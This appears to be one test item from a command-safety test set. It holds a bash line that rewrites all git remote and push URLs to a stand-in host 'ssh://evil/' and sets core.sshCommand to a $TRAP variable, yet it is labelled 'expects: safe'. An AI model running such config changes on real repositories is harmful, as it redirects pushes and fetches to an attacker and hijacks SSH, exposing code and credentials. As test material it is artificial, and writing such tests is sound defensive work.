#!/bin/bash
# class: git
# title: url.insteadOf turns the remotes of the host
# expects: safe
git config url.ssh://evil/.insteadOf /; git config url.ssh://evil/.pushInsteadOf /; git config core.sshCommand "$TRAP"; echo x > new
